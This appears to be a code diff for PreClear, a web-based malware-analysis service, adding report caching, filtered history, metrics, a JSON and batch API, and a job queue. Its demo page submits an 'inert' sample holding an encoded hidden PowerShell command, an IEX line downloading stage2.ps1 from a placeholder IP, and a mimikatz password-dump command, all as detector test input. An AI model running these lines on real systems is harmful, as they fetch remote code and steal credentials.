+    deception_triggered = analysis["deception_triggered"]
+    verdict = analysis["verdict"]
+
+    if cache_hit:
+        steps.append("Known artifact (SHA-256 match) → stored verdict reused")
+        progress(steps[-1])
+    elif analysis["short_circuit"] == "reputation":
+        steps.append("Hash reputation match → verdict settled without detonation")
+    elif any(s["name"] == "behavioral" and s["status"] != "skipped" for s in analysis["stages"]):
+        steps.append("Behavioral sandbox executed (simulated)")
+        steps.append("Behavioral indicators scored")
+    if "archive" in analysis:
+        archive = analysis["archive"]
+        steps.append(
+            f"Archive unpacked ({archive['kind']}): {archive['scanned']} members scanned"
+            + (f", {archive['errors']} unreadable" if archive["errors"] else "")
+        )
     if deception_triggered:
         steps.append("Deception asset accessed → confirmed malicious intent")
-    steps.append("Risk engine produced verdict")
+    if analysis["short_circuit"] and not cache_hit:
+        skipped = sum(s["status"] == "skipped" for s in analysis["stages"])
+        steps.append(f"Risk engine short-circuited on {analysis['short_circuit']} ({skipped} stages skipped)")
+    else:
+        steps.append("Risk engine produced verdict")
     steps.append(
         "Automated action: "
         + ("Block & contain" if verdict == "BLOCKED" else "Quarantine for review" if verdict == "QUARANTINED" else "Allow")
     )
 
-    soc_alerts = generate_soc_noise()
+    seed = signal_seed(artifact.sha256, seed)
+    with timed_stage("soc_noise"):
+        soc = soc_report_fields(seed)
 
-    report_id = uuid.uuid4().hex[:10]
     created_at = datetime.now().strftime("%Y-%m-%d %H:%M:%S")
 
     report = {
         "report_id": report_id,
         "created_at": created_at,
-        "filename": filename,
-        "behavior_score": behavior_score,
-        "deception_triggered": deception_triggered,
-        "final_risk": final_risk,
-        "verdict": verdict,
-        "rationale": rationale,
-        "flags": flags,
+        "filename": artifact.filename,
+        "sha256": artifact.sha256,
+        "size_bytes": artifact.size,
+        **analysis,
+        "cache_hit": cache_hit,
+        "seed": seed,
         "steps": steps,
-        "soc_alerts": soc_alerts,
+        **soc,
     }
+    return report
 
-    store_report(report)
-    return render_report_html(report)
+
+@app.post("/analyze", response_class=HTMLResponse)
+async def analyze(file: UploadFile = File(...), seed: int | None = Form(default=None)):
+    try:
+        with timed_stage("ingest"):
+            artifact = await ingest_upload(file)
+        report = await build_report(artifact, seed=seed)
+    except ArtifactTooLarge:
+        return artifact_too_large_response()
+    except AnalysisBusy:
+        return analysis_busy_response()
+    with timed_stage("store"):
+        await store_report(report)
+    with timed_stage("render"):
+        return render_report_html(report)
 
 @app.get("/simulate", response_class=HTMLResponse)
 async def simulate():
@@ -856,48 +3828,74 @@ function resetReplay(setReady=true) {{
     return page_shell(content, "Attack Replay")
 
 @app.get("/report/{report_id}", response_class=HTMLResponse)
-async def view_report(report_id: str):
-    report = REPORT_STORE.get(report_id)
-    if not report:
-        return page_shell(
-            f"""
+async def view_report(report_id: str, request: Request):
+    entry = RENDER_CACHE.get(report_id)
+    if entry is None:
+        report = load_report(report_id)
+        if not report:
+            return page_shell(
+                f"""
             <div class="card">
               <h2>Report not found</h2>
-              <p class="subtle">This report may have expired (history keeps the last {MAX_REPORTS}).</p>
+              <p class="subtle">This report may have expired (history keeps the last {REPORT_LOG_RETENTION if STORAGE_BACKEND == "jsonl" else MAX_REPORTS}).</p>
               <p class="subtle"><a href="/">Back to home</a></p>
             </div>
             """,
-            "Report Missing"
-        )
+                "Report Missing"
+            )
+        entry = cache_rendered_report(report)
 
-    # Re-render using the same report template you use after analysis
-    return render_report_html(report)
+    etag, last_modified, body, _ = entry
+    encoding = choose_encoding(request.headers.get("accept-encoding", ""))
+    if encoding is not None and len(body) < COMPRESS_MIN_BYTES:
+        encoding = None
+    if encoding is not None:
+        # Each representation gets its own validator.
+        etag = f'{etag[:-1]}-{encoding}"'
+    headers = {
+        "ETag": etag,
+        "Last-Modified": last_modified,
+        "Cache-Control": f"public, max-age={REPORT_MAX_AGE}",
+        "Vary": "Accept-Encoding",
+    }
+    if is_not_modified(request.headers, etag, last_modified):
+        return Response(status_code=304, headers=headers)
+    if encoding is not None:
+        headers["Content-Encoding"] = encoding
+        return HTMLResponse(encoded_report_body(report_id, entry, encoding), headers=headers)
+    return HTMLResponse(body, headers=headers)
 
-@app.get("/history", response_class=HTMLResponse)
-async def history():
-    items = []
-    for rid in REPORT_ORDER:
-        r = REPORT_STORE.get(rid)
-        if not r:
-            continue
-        items.append(
-            f"""
-            <tr>
-              <td class="mono">{html.escape(r["created_at"])}</td>
-              <td class="mono">{html.escape(r["filename"])}</td>
-              <td><span class="tag">{html.escape(r["verdict"])}</span></td>
-              <td class="mono">{r["final_risk"]}/100</td>
-              <td><a href="/report/{html.escape(rid)}">Open</a></td>
-            </tr>
-            """
-        )
+def render_history_stream(page: HistoryPage):
+    filters = page.filters
+    head, tail = page_shell_parts("History")
+    total = len(REPORT_BACKEND if REPORT_BACKEND is not None else REPORT_STORE)
+    storage_note = (
+        "Reports are persisted to disk and survive restarts."
+        if REPORT_BACKEND is not None
+        else "Reports are stored in memory and reset when the server restarts."
+    )
+    verdict_options = "".join(
+        f'<option value="{v}"{" selected" if filters.get("verdict") == v else ""}>{v}</option>'
+        for v in VERDICTS
+    )
 
-    table = "".join(items) if items else "<tr><td colspan='5' class='subtle'>No reports yet.</td></tr>"
+    def value(key):
+        return html.escape(str(filters.get(key, "")))
 
-    content = f"""
+    yield head + f"""
 <div class="card">
-  <h2>Recent Analyses (Last {MAX_REPORTS})</h2>
-  <p class="subtle">Reports are stored in memory and reset when the server restarts.</p>
+  <h2>Recent Analyses ({total} stored)</h2>
+  <p class="subtle">{storage_note}</p>
+  <form class="filters" action="/history" method="get">
+    <select name="verdict"><option value="">Any verdict</option>{verdict_options}</select>
+    <input type="number" name="min_risk" min="0" max="100" placeholder="Min risk" value="{value("min_risk")}" />
+    <input type="number" name="max_risk" min="0" max="100" placeholder="Max risk" value="{value("max_risk")}" />
+    <input type="date" name="since" value="{value("since")}" />
+    <input type="date" name="until" value="{value("until")}" />
+    <input type="text" name="q" placeholder="Filename contains…" value="{value("q")}" />
+    <input type="hidden" name="limit" value="{page.limit}" />
+    <button type="submit">Filter</button>
+  </form>
   <table class="table">
     <thead>
       <tr>
@@ -909,30 +3907,247 @@ async def history():
       </tr>
     </thead>
     <tbody>
-      {table}
+"""
+
+    buffered = []
+    count = 0
+    for r in page:
+        rid = html.escape(r["report_id"])
+        buffered.append(
+            f"""
+            <tr>
+              <td class="mono">{html.escape(r["created_at"])}</td>
+              <td class="mono">{html.escape(r["filename"])}</td>
+              <td><span class="tag">{html.escape(r["verdict"])}</span></td>
+              <td class="mono">{r["final_risk"]}/100</td>
+              <td><a href="/report/{rid}">Open</a></td>
+            </tr>
+            """
+        )
+        count += 1
+        # Flush the first rows early, then in larger batches.
+        if count == 10 or len(buffered) >= 50:
+            yield "".join(buffered)
+            buffered = []
+    if not count:
+        buffered.append("<tr><td colspan='5' class='subtle'>No reports match.</td></tr>" if filters else "<tr><td colspan='5' class='subtle'>No reports yet.</td></tr>")
+
+    query = {**filters, "limit": page.limit}
+    links = ['<a class="btn-link secondary" href="/">Back to Home</a>']
+    if page.before is not None:
+        links.append(f'<a class="btn-link secondary" href="/history?{html.escape(urlencode(query))}">Newest</a>')
+    if page.next_cursor is not None:
+        older = urlencode({**query, "cursor": page.next_cursor})
+        links.append(f'<a class="btn-link" href="/history?{html.escape(older)}">Older reports →</a>')
+
+    yield "".join(buffered) + f"""
     </tbody>
   </table>
   <hr/>
-    <div style="margin-top:14px;">
-        <a class="btn-link secondary" href="/">Back to Home</a>
+    <div style="margin-top:14px; display:flex; gap:10px; flex-wrap:wrap;">
+        {"".join(links)}
     </div>
 </div>
-"""
-    return HTMLResponse(page_shell(content, "History"))
+""" + tail
+
+
+@app.get("/history", response_class=HTMLResponse)
+async def history(
+    cursor: int | None = None,
+    limit: int = HISTORY_PAGE_SIZE,
+    verdict: str | None = None,
+    min_risk: str | None = None,
+    max_risk: str | None = None,
+    since: str | None = None,
+    until: str | None = None,
+    q: str | None = None,
+):
+    filters = parse_history_filters(verdict, min_risk, max_risk, since, until, q)
+    page = HistoryPage(cursor, max(1, min(HISTORY_MAX_LIMIT, limit)), filters)
+    # Rows are rendered as the backend yields them, so the table starts arriving
+    # before a filtered scan over a large history has finished.
+    return StreamingResponse(render_history_stream(page), media_type="text/html; charset=utf-8")
+
+@app.get("/stats")
+async def stats():
+    # Backend stats count stored reports, which can hit the database; see /metrics.
+    backend = await run_in_threadpool(REPORT_BACKEND.stats) if REPORT_BACKEND is not None else None
+    return {
+        "verdict_cache": VERDICT_CACHE.stats(),
+        "render_cache": RENDER_CACHE.stats(),
+        "report_store": REPORT_STORE.stats(),
+        "report_backend": backend,
+        "analysis_pool": analysis_pool_stats(),
+        "jobs": JOB_QUEUE.stats(),
+        "events": EVENTS.stats(),
+        "rules": {"rules": len(RULES), "strings": len(RULES.strings), "unanchored": len(RULES.unanchored)},
+        "scoring": [{"stage": s.name, "weight": s.weight, "timeout": s.timeout} for s in SCORING_PIPELINE],
+        "pipeline": {stage: h.snapshot() for stage, h in STAGE_LATENCY.items()},
+    }
+
+# --- Metrics ---------------------------------------------------------------------
+#
+# GET /metrics serves the Prometheus text format. The hot path only bumps
+# counters and LatencyHistograms (a bisect and three additions); everything
+# else (store sizes, cache and queue stats) is read when /metrics is scraped.
+# Like /stats, the numbers are per worker process.
+
+METRICS_CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"
+
+
+class HttpMetrics:
+    def __init__(self):
+        self.requests: dict[tuple[str, str, int], int] = {}  # (method, route, status) -> count
+        self.latency: dict[tuple[str, str], LatencyHistogram] = {}
+        self.body_bytes = 0
+
+    def observe(self, method: str, route: str, status: int, seconds: float) -> None:
+        key = (method, route)
+        histogram = self.latency.get(key)
+        if histogram is None:
+            histogram = self.latency.setdefault(key, LatencyHistogram())
+        histogram.observe(seconds)
+        counter = (method, route, status)
+        self.requests[counter] = self.requests.get(counter, 0) + 1
+
+
+HTTP_METRICS = HttpMetrics()
+
+
+class MetricsMiddleware:
+    """Counts requests and observes their latency per route template."""
+
+    def __init__(self, app, metrics: HttpMetrics):
+        self.app = app
+        self.metrics = metrics
+
+    async def __call__(self, scope, receive, send):
+        if scope["type"] != "http":
+            return await self.app(scope, receive, send)
+        started = time.perf_counter()
+        status = 500
+
+        async def counting_receive():
+            message = await receive()
+            if message["type"] == "http.request":
+                self.metrics.body_bytes += len(message.get("body", b""))
+            return message
+
+        async def status_send(message):
+            nonlocal status
+            if message["type"] == "http.response.start":
+                status = message["status"]
+            await send(message)
+
+        try:
+            await self.app(scope, counting_receive, status_send)
+        finally:
+            # The router fills in scope["route"]; labelling by its template keeps
+            # /report/{report_id} to one series instead of one per report.
+            # Mounts (/static) only leave their prefix behind, in root_path.
+            route = getattr(scope.get("route"), "path", None) or scope.get("root_path") or "unmatched"
+            self.metrics.observe(scope["method"], route, status, time.perf_counter() - started)
+
+
+VERDICT_COUNTS = {verdict: 0 for verdict in VERDICTS}
+INGEST_COUNTS = {"artifacts": 0, "bytes": 0}
+
+
+def _label_value(value) -> str:
+    return str(value).replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
+
+
+def metric_labels(labels: dict) -> str:
+    if not labels:
+        return ""
+    return "{" + ",".join(f'{k}="{_label_value(v)}"' for k, v in labels.items()) + "}"
+
+
+class MetricsWriter:
+    """Accumulates Prometheus exposition lines, one HELP/TYPE header per family."""
+
+    def __init__(self):
+        self.lines: list[str] = []
+        self._declared: set[str] = set()
+
+    def _declare(self, name: str, kind: str, help_text: str) -> None:
+        if name not in self._declared:
+            self._declared.add(name)
+            self.lines.append(f"# HELP {name} {help_text}")
+            self.lines.append(f"# TYPE {name} {kind}")
+
+    def sample(self, name: str, kind: str, help_text: str, value, **labels) -> None:
+        self._declare(name, kind, help_text)
+        self.lines.append(f"{name}{metric_labels(labels)} {value}")
+
+    def histogram(self, name: str, help_text: str, histogram: LatencyHistogram, **labels) -> None:
+        self._declare(name, "histogram", help_text)
+        cumulative = 0
+        for bound, n in zip(histogram.buckets, histogram.counts):
+            cumulative += n
+            self.lines.append(f"{name}_bucket{metric_labels({**labels, 'le': bound})} {cumulative}")
+        self.lines.append(f"{name}_bucket{metric_labels({**labels, 'le': '+Inf'})} {histogram.count}")
+        self.lines.append(f"{name}_sum{metric_labels(labels)} {histogram.sum}")
+        self.lines.append(f"{name}_count{metric_labels(labels)} {histogram.count}")
+
+    def render(self) -> bytes:
+        return ("\n".join(self.lines) + "\n").encode()
+
+
+def render_metrics(backend_reports: int | None = None) -> bytes:
+    """``backend_reports`` is len(REPORT_BACKEND), read by the caller off the event loop."""
+    out = MetricsWriter()
+    for (method, route, status), n in sorted(HTTP_METRICS.requests.items()):
+        out.sample("preclear_http_requests_total", "counter", "HTTP requests by route and status.", n,
+                   method=method, route=route, status=status)
+    for (method, route), histogram in sorted(HTTP_METRICS.latency.items()):
+        out.histogram("preclear_http_request_duration_seconds", "HTTP request latency by route.", histogram,
+                      method=method, route=route)
+    out.sample("preclear_http_request_body_bytes_total", "counter", "Request body bytes received.", HTTP_METRICS.body_bytes)
+    out.sample("preclear_artifacts_ingested_total", "counter", "Uploaded artifacts ingested.", INGEST_COUNTS["artifacts"])
+    out.sample("preclear_artifact_bytes_total", "counter", "Bytes of uploaded artifacts ingested.", INGEST_COUNTS["bytes"])
+    for stage, histogram in sorted(STAGE_LATENCY.items()):
+        out.histogram("preclear_stage_duration_seconds", "Latency of each pipeline stage.", histogram, stage=stage)
+    for verdict, n in VERDICT_COUNTS.items():
+        out.sample("preclear_verdicts_total", "counter", "Stored reports by verdict.", n, verdict=verdict)
+
+    store = REPORT_STORE.stats()
+    out.sample("preclear_report_store_reports", "gauge", "Reports held in memory.", store["reports"])
+    out.sample("preclear_report_store_bytes", "gauge", "Approximate bytes of reports held in memory.", store["bytes"])
+    out.sample("preclear_report_store_evictions_total", "counter", "Reports evicted from memory.", store["evictions"])
+    if backend_reports is not None:
+        out.sample("preclear_report_backend_reports", "gauge", "Reports in durable storage.", backend_reports,
+                   backend=STORAGE_BACKEND)
+    for name, cache in (("verdict", VERDICT_CACHE), ("render", RENDER_CACHE)):
+        stats = cache.stats()
+        out.sample("preclear_cache_entries", "gauge", "Cache entries.", stats["entries"], cache=name)
+        out.sample("preclear_cache_bytes", "gauge", "Approximate cache size in bytes.", stats["bytes"], cache=name)
+        out.sample("preclear_cache_hits_total", "counter", "Cache hits.", stats["hits"], cache=name)
+        out.sample("preclear_cache_misses_total", "counter", "Cache misses.", stats["misses"], cache=name)
+        out.sample("preclear_cache_evictions_total", "counter", "Cache evictions.", stats["evictions"], cache=name)
+
+    out.sample("preclear_analysis_inflight", "gauge", "Analyses holding a slot.", ANALYSIS_LIMITER.inflight)
+    out.sample("preclear_analysis_rejected_total", "counter", "Analyses rejected with 429.", ANALYSIS_LIMITER.rejected)
+    jobs = JOB_QUEUE.stats()
+    out.sample("preclear_jobs_queued", "gauge", "Jobs waiting for a worker.", jobs["queued"])
+    out.sample("preclear_jobs_running", "gauge", "Jobs being analysed.", jobs["running"])
+    for outcome in ("completed", "failed", "rejected"):
+        out.sample("preclear_jobs_total", "counter", "Jobs by outcome.", jobs[outcome], outcome=outcome)
+    out.histogram("preclear_job_wait_seconds", "Time jobs spend queued.", JOB_QUEUE.wait_time)
+    out.sample("preclear_event_subscribers", "gauge", "Open /events streams.", EVENTS.stats()["subscribers"])
+    return out.render()
+
+
+@app.get("/metrics")
+async def metrics():
+    # With shared storage this is a count query or an index refresh; keep it off the loop.
+    backend_reports = await run_in_threadpool(len, REPORT_BACKEND) if REPORT_BACKEND is not None else None
+    return Response(render_metrics(backend_reports), media_type=METRICS_CONTENT_TYPE)
+
+
+# Outermost, so the latency includes compression and upload limiting.
+app.add_middleware(MetricsMiddleware, metrics=HTTP_METRICS)
 
-@app.get("/report/{report_id}", response_class=HTMLResponse)
-async def view_report(report_id: str):
-    report = REPORT_STORE.get(report_id)
-    if not report:
-        content = f"""
-<div class="card">
-  <h2>Report not found</h2>
-  <p class="subtle">This report may have expired (history keeps the last {MAX_REPORTS}).</p>
-  <p class="subtle"><a href="/history">Back to history</a></p>
-</div>
-"""
-        return HTMLResponse(page_shell(content, "Not Found"))
-    return render_report_html(report)
 
 @app.get("/demo", response_class=HTMLResponse)
 async def demo_mode():
@@ -952,42 +4167,92 @@ async def demo_mode():
   </div>
 
   <p class="subtle" style="margin-top:16px;">
-    This will automatically run the attack replay and generate a report.
+    A sample artifact is analysed live; each pipeline step appears here as it happens.
   </p>
 </div>
 
 <script>
-let progress = 0;
+// Submits a harmless sample as a job and follows its real pipeline steps on /events.
+// Events only reach this page when the stream is served by the worker process that
+// runs the job, so the job is also polled, which works from any worker.
 const bar = document.getElementById("demoBar");
 const status = document.getElementById("demoStatus");
+const sample = [
+  "# PreClear demo sample (inert text, run " + Date.now() + ")",
+  "powershell -NoProfile -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
+  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage2.ps1')",
+  "mimikatz sekurlsa::logonpasswords",
+].join("\\n");
+
+let jobId = null;
+let steps = 0;
+let finished = false;
+const backlog = [];
+const source = new EventSource("/events");
 
-const steps = [
-  {p: 15, t: "Reconnaissance detected…"},
-  {p: 30, t: "Behavioral sandbox executing…"},
-  {p: 50, t: "Deception trigger activated…"},
-  {p: 75, t: "Risk engine correlating signals…"},
-  {p: 95, t: "Generating prevention verdict…"}
-];
-
-let i = 0;
-
-function runDemo() {
-  if (i >= steps.length) {
-    status.textContent = "Complete. Loading report…";
-    setTimeout(() => {
-      window.location.href = "/demo-report";
-    }, 1200);
+function finish(message) {
+  if (finished) return;
+  finished = true;
+  source.close();
+  bar.style.width = "100%";
+  status.textContent = message;
+  setTimeout(() => { window.location.href = "/report/" + jobId; }, 1200);
+}
+
+function handle(type, ev) {
+  if (jobId === null) { backlog.push([type, ev]); return; }
+  if (ev.report_id !== jobId || finished) return;
+  if (type === "step") {
+    steps = Math.max(steps, ev.index + 1);
+    status.textContent = ev.step + "…";
+    bar.style.width = Math.min(90, steps * 15) + "%";
     return;
   }
+  finish("Verdict: " + ev.verdict + " (risk " + ev.final_risk + "/100). Loading report…");
+}
+
+source.addEventListener("step", (e) => handle("step", JSON.parse(e.data)));
+source.addEventListener("verdict", (e) => handle("verdict", JSON.parse(e.data)));
+
+async function poll() {
+  if (finished) return;
+  const response = await fetch("/api/v1/jobs/" + jobId).catch(() => null);
+  const job = response && response.ok ? await response.json() : null;
+  if (job && job.status === "done") {
+    finish("Analysis complete. Loading report…");
+  } else if (job && job.status === "failed") {
+    finished = true;
+    source.close();
+    status.textContent = "Analysis failed: " + (job.error || "unknown error");
+  } else {
+    if (job && steps === 0) status.textContent = job.status === "running" ? "Analysing…" : "Queued…";
+    setTimeout(poll, 1000);
+  }
+}
 
-  status.textContent = steps[i].t;
-  progress = steps[i].p;
-  bar.style.width = progress + "%";
-  i++;
-  setTimeout(runDemo, 1000);
+let submitted = false;
+async function submit() {
+  if (submitted) return;
+  submitted = true;
+  status.textContent = "Submitting sample…";
+  const form = new FormData();
+  form.append("file", new Blob([sample], {type: "text/plain"}), "simulated_attack_payload.ps1");
+  form.append("priority", "high");
+  const response = await fetch("/api/v1/jobs", {method: "POST", body: form});
+  if (!response.ok) {
+    status.textContent = "Analysis queue is busy; retrying…";
+    submitted = false;
+    setTimeout(submit, 2000);
+    return;
+  }
+  jobId = (await response.json()).job_id;
+  backlog.splice(0).forEach(([type, ev]) => handle(type, ev));
+  setTimeout(poll, 1000);
 }
 
-setTimeout(runDemo, 800);
+// Subscribe before submitting so no step is missed; don't wait on a stream that never opens.
+source.addEventListener("open", () => setTimeout(submit, 800), {once: true});
+setTimeout(submit, 3000);
 </script>
 """
     return HTMLResponse(page_shell(content, "Demo Mode"))
@@ -1008,7 +4273,8 @@ async def demo_report():
         "Automated action: Block & contain"
     ]
 
-    soc_alerts = generate_soc_noise()
+    seed = signal_seed()
+    soc = soc_report_fields(seed)
 
     report_id = uuid.uuid4().hex[:10]
     created_at = datetime.now().strftime("%Y-%m-%d %H:%M:%S")
@@ -1027,9 +4293,483 @@ async def demo_report():
             "Credential access attempt observed",
             "Privilege escalation sequence identified"
         ],
+        "seed": seed,
         "steps": steps,
-        "soc_alerts": soc_alerts,
+        **soc,
     }
 
-    store_report(report)
+    await store_report(report)
     return render_report_html(report)
+
+
+# --- JSON API ----------------------------------------------------------------
+#
+# Same pipeline and storage as the HTML pages, minus page_shell/CSS rendering.
+
+REPORT_SUMMARY_FIELDS = ("seq", "report_id", "created_at", "filename", "verdict", "final_risk", "sha256")
+
+
+@app.post("/api/v1/analyze", response_class=FastJSONResponse)
+async def api_analyze(file: UploadFile = File(...), seed: int | None = Form(default=None)):
+    try:
+        with timed_stage("ingest"):
+            artifact = await ingest_upload(file)
+        report = await build_report(artifact, seed=seed)
+    except ArtifactTooLarge:
+        return artifact_too_large_response(api=True)
+    except AnalysisBusy:
+        return analysis_busy_response(api=True)
+    with timed_stage("store"):
+        await store_report(report)
+    return FastJSONResponse(report)
+
+
+@app.get("/api/v1/reports/{report_id}", response_class=FastJSONResponse)
+async def api_report(report_id: str):
+    raw = load_report_json(report_id)
+    if raw is None:
+        return FastJSONResponse({"detail": "Report not found"}, status_code=404)
+    return FastJSONResponse(raw)
+
+
+@app.get("/api/v1/reports", response_class=FastJSONResponse)
+async def api_reports(
+    cursor: int | None = None,
+    limit: int = HISTORY_PAGE_SIZE,
+    verdict: str | None = None,
+    min_risk: str | None = None,
+    max_risk: str | None = None,
+    since: str | None = None,
+    until: str | None = None,
+    q: str | None = None,
+):
+    filters = parse_history_filters(verdict, min_risk, max_risk, since, until, q)
+    page = HistoryPage(cursor, max(1, min(HISTORY_MAX_LIMIT, limit)), filters)
+    # The scan reads the backend (file or sqlite), so it runs off the event loop.
+    rows = await run_in_threadpool(lambda: [{k: r.get(k) for k in REPORT_SUMMARY_FIELDS} for r in page])
+    return FastJSONResponse({"reports": rows, "next_cursor": page.next_cursor})
+
+
+BATCH_MAX_ARTIFACTS = int(os.environ.get("PRECLEAR_BATCH_MAX_ARTIFACTS", 500))
+BATCH_CONCURRENCY = int(os.environ.get("PRECLEAR_BATCH_CONCURRENCY", 8))
+
+
+class InvalidBundle(Exception):
+    pass
+
+
+async def run_batch(artifacts, seed: int | None = None) -> dict:
+    """Analyse (name, ArtifactStream | Exception) pairs with at most BATCH_CONCURRENCY in flight.
+
+    ``artifacts`` is an async iterator; the next artifact is only pulled once a
+    slot frees up, so at most BATCH_CONCURRENCY spools are open at a time.
+    """
+    started = time.perf_counter()
+    slots = asyncio.Semaphore(BATCH_CONCURRENCY)
+    results: list[dict] = []
+    tasks = []
+
+    async def analyze_one(index: int, artifact: ArtifactStream) -> None:
+        t0 = time.perf_counter()
+        try:
+            report = await build_report(artifact, wait=True, seed=seed)
+            await store_report(report)
+            results[index] = {
+                "filename": artifact.filename,
+                "report_id": report["report_id"],
+                "sha256": report["sha256"],
+                "verdict": report["verdict"],
+                "final_risk": report["final_risk"],
+                "cache_hit": report["cache_hit"],
+                "elapsed_ms": round((time.perf_counter() - t0) * 1000, 3),
+            }
+        finally:
+            artifact.close()
+            slots.release()
+
+    try:
+        async for name, artifact in artifacts:
+            if isinstance(artifact, Exception):
+                error = "artifact too large" if isinstance(artifact, ArtifactTooLarge) else str(artifact)
+                results.append({"filename": name, "error": error})
+                continue
+            await slots.acquire()
+            results.append({"filename": name})
+            tasks.append(asyncio.create_task(analyze_one(len(results) - 1, artifact)))
+    finally:
+        # Even if the source fails, members already started finish and close their spools.
+        await asyncio.gather(*tasks)
+
+    elapsed = time.perf_counter() - started
+    verdicts = {v: 0 for v in VERDICTS}
+    for r in results:
+        if "verdict" in r:
+            verdicts[r["verdict"]] += 1
+    analysed = sum(verdicts.values())
+    return {
+        "count": len(results),
+        "analysed": analysed,
+        "errors": len(results) - analysed,
+        "verdicts": verdicts,
+        "elapsed_ms": round(elapsed * 1000, 3),
+        "artifacts_per_second": round(analysed / elapsed, 2) if elapsed else None,
+        "results": results,
+    }
+
+
+async def iter_uploads(files: list[UploadFile]):
+    for file in files[:BATCH_MAX_ARTIFACTS]:
+        try:
+            yield file.filename or "uploaded_file", await ingest_upload(file)
+        except ArtifactTooLarge as exc:
+            yield file.filename or "uploaded_file", exc
+    # Like a bundle that runs out of budget, the rest are reported rather than dropped.
+    for file in files[BATCH_MAX_ARTIFACTS:]:
+        yield file.filename or "uploaded_file", ValueError(f"not analysed: batch is limited to {BATCH_MAX_ARTIFACTS} artifacts")
+
+
+async def iter_bundle(bundle: UploadFile):
+    """Members of a zip or (optionally compressed) tar bundle, read through an ExpansionBudget.
+
+    A bundle that cannot be opened at all is an InvalidBundle; once members have
+    been yielded, corruption or an exhausted budget ends the batch with an error
+    entry instead.
+    """
+    source = ArtifactStream(bundle.file, bundle.filename or "bundle", 0, "")
+    # tarfile's "r|*" detects gzip/bz2/xz itself, so anything but a zip is read as a tar.
+    kind = "zip" if archive_kind(source) == "zip" else "tar"
+    budget = ExpansionBudget(members=BATCH_MAX_ARTIFACTS)
+    members = iter_archive_members(source, kind, budget)
+    yielded = False
+    try:
+        while True:
+            # Extraction is blocking I/O plus decompression; pull one member at a time off-loop.
+            try:
+                item = await run_in_threadpool(next, members, None)
+            except ArchiveLimitExceeded as exc:
+                yield source.filename, ArchiveLimitExceeded(f"bundle expansion stopped: {exc}")
+                return
+            except ARCHIVE_READ_ERRORS as exc:
+                if not yielded:
+                    raise InvalidBundle("bundle is neither a zip nor a tar archive") from exc
+                yield source.filename, InvalidBundle(f"unreadable bundle: {exc}")
+                return
+            if item is None:
+                return
+            yielded = True
+            yield item
+    finally:
+        members.close()
+
+
+@app.post("/api/v1/analyze/batch", response_class=FastJSONResponse)
+async def api_analyze_batch(
+    files: list[UploadFile] | None = File(default=None),
+    bundle: UploadFile | None = File(default=None),
+    seed: int | None = Form(default=None),
+):
+    if not files and bundle is None:
+        return FastJSONResponse({"detail": "Upload one or more 'files' or a zip/tar 'bundle'."}, status_code=400)
+    try:
+        if bundle is not None:
+            result = await run_batch(iter_bundle(bundle), seed=seed)
+        else:
+            result = await run_batch(iter_uploads(files), seed=seed)
+    except InvalidBundle as exc:
+        return FastJSONResponse({"detail": str(exc)}, status_code=400)
+    return FastJSONResponse(result)
+
+
+# --- Analysis jobs -------------------------------------------------------------
+#
+# POST /api/v1/jobs (or the upload form, via POST /jobs) ingests the upload,
+# queues it and answers 202 straight away; JOB_WORKERS tasks, started with the
+# first job, drain the queue in priority order. A job id is also the id of the
+# report it produces, so once the report is stored any worker process can
+# resolve the job. With several workers, queued and running jobs are also
+# published as small JSON files under DATA_DIR/jobs for the other processes.
+
+JOB_WORKERS = int(os.environ.get("PRECLEAR_JOB_WORKERS", 4))
+JOB_QUEUE_LIMIT = int(os.environ.get("PRECLEAR_JOB_QUEUE_LIMIT", 256))
+JOB_RETENTION = int(os.environ.get("PRECLEAR_JOB_RETENTION", 10000))  # finished jobs kept in memory
+JOB_POLL_INTERVAL = 1  # seconds; sent as Retry-After / Refresh while a job is pending
+JOB_PRIORITIES = {"high": 0, "normal": 1, "low": 2}
+JOB_DIR = os.path.join(DATA_DIR, "jobs")
+
+
+class QueueFull(Exception):
+    pass
+
+
+class Job:
+    __slots__ = ("id", "filename", "priority", "seed", "artifact", "status", "submitted", "started", "finished", "error")
+
+    def __init__(self, artifact: ArtifactStream, priority: str, seed: int | None):
+        self.id = uuid.uuid4().hex[:10]
+        self.filename = artifact.filename
+        self.priority = priority
+        self.seed = seed
+        self.artifact = artifact
+        self.status = "queued"  # queued -> running -> done | failed
+        self.submitted = time.time()
+        self.started: float | None = None
+        self.finished: float | None = None
+        self.error: str | None = None
+
+    def view(self) -> dict:
+        return {
+            "job_id": self.id,
+            "status": self.status,
+            "filename": self.filename,
+            "priority": self.priority,
+            "submitted_at": self.submitted,
+            "started_at": self.started,
+            "finished_at": self.finished,
+            "report_id": self.id if self.status == "done" else None,
+            "error": self.error,
+        }
+
+
+class JobQueue:
+    """Priority queue of analysis jobs with a fixed number of worker tasks."""
+
+    def __init__(self, workers: int, limit: int, retention: int):
+        self.workers = workers
+        self.limit = limit
+        self.retention = retention
+        self.jobs: dict[str, Job] = {}
+        self._finished: deque[str] = deque()
+        self._loop = None
+        self._queue: asyncio.PriorityQueue | None = None
+        self._tasks: list[asyncio.Task] = []
+        self._order = 0  # FIFO tie-break within a priority
+        self.running = 0
+        self.completed = 0
+        self.failed = 0
+        self.rejected = 0
+        self.wait_time = LatencyHistogram()
+        self.run_time = LatencyHistogram()
+
+    def _ensure_started(self) -> None:
+        loop = asyncio.get_running_loop()
+        if self._loop is loop:
+            return
+        # First job, or the previous loop is gone (test clients run one loop per
+        # session): start workers here and carry over anything still queued.
+        self._loop = loop
+        self._queue = asyncio.PriorityQueue()
+        self._tasks = [loop.create_task(self._worker()) for _ in range(self.workers)]
+        for job in self.jobs.values():
+            if job.status == "queued":
+                self._enqueue(job)
+
+    def _enqueue(self, job: Job) -> None:
+        self._order += 1
+        self._queue.put_nowait((JOB_PRIORITIES[job.priority], self._order, job))
+
+    def submit(self, artifact: ArtifactStream, priority: str = "normal", seed: int | None = None) -> Job:
+        self._ensure_started()
+        if self._queue.qsize() >= self.limit:
+            self.rejected += 1
+            raise QueueFull()
+        job = Job(artifact, priority, seed)
+        self.jobs[job.id] = job
+        self._enqueue(job)
+        publish_job(job)
+        return job
+
+    async def _worker(self) -> None:
+        while True:
+            _, _, job = await self._queue.get()
+            if job.status != "queued":
+                continue
+            job.status = "running"
+            job.started = time.time()
+            self.wait_time.observe(job.started - job.submitted)
+            self.running += 1
